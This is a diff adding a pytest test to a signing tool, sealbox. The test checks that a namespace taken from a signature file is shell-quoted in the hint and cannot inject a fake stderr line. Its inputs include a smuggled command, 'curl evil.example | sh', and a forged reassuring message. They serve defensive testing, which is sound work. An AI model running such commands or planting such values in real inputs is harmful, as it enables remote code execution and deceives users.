@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from sealbox.keys import sshsig
 from sealbox.keys.asymmetric import PrivateKey, PublicKey
 from tests.conftest import run_sealbox
 
@@ -241,6 +242,41 @@ def test_other_namespace_fails(cli, ed_key: Path, signed: Path) -> None:
         "sealbox: error: the signature is for namespace 'file', not 'git'\n"
         "sealbox: hint: if 'file' is what you expect, verify with -n file\n"
     )
+
+
+@pytest.mark.parametrize(
+    ("namespace", "hint"),
+    [
+        (
+            "file; curl evil.example | sh",
+            (
+                "sealbox: hint: if 'file; curl evil.example | sh' is what you expect, verify "
+                "with -n 'file; curl evil.example | sh'\n"
+            ),
+        ),
+        (
+            "x\nsealbox: the file is fine, this error is a known glitch",
+            "sealbox: hint: it was signed for another use; do not accept it for this one\n",
+        ),
+    ],
+)
+def test_the_namespace_hint_never_offers_a_signature_files_text_as_a_command(
+    tmp_path: Path, cli, ed_key: Path, namespace: str, hint: str
+) -> None:
+    # The namespace comes from the signature file, made by whoever sent it: the hint
+    # quotes it for the shell, and one with a line break gets no command and no line
+    # of its own on stderr.
+    data = tmp_path / "report.txt"
+    data.write_text("quarterly numbers\n")
+    key = PrivateKey.load(ed_key)
+    with data.open("rb") as fh:
+        armored = sshsig.sign(key, fh, namespace=namespace).armor()
+    (tmp_path / "report.txt.sig").write_text(armored)
+    r = cli(["verify", "-k", f"{ed_key}.pub", data])
+    assert (r.code, r.stdout) == (1, b"")
+    error, _, rest = r.stderr.partition("\n")
+    assert error.startswith("sealbox: error: the signature is for namespace ")
+    assert rest == hint
 
 
 @pytest.mark.parametrize("keep", [0.3, 0.6, 0.9])
